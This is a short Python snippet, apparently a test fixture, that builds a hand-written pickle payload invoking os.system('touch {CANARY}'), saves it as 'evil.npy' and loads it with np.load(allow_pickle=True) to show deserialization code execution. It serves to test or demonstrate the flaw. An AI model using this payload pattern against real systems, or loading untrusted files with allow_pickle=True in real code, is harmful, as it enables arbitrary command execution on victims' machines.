# np.load(allow_pickle=True) on a pickle payload
import numpy as np
payload = b"cos\nsystem\n(S'touch {CANARY}'\ntR."
with open("evil.npy", "wb") as f:
    f.write(payload)
np.load("evil.npy", allow_pickle=True)
